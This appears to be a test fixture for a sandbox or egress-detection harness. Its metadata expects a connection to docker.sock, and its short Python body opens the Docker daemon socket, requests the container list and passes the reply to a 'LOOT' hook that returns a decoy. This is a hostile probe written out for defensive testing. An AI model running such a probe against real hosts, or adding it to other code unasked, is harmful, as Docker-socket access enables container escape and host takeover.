#: {"class": "egress", "loader": "script", "expect": [["connect", "docker\\.sock"]], "effect": {"loot": "DECOY-reply"}}
import socket
os.chdir("/run"); s = socket.socket(socket.AF_UNIX); s.connect("docker.sock"); s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n"); LOOT(s.recv(999))
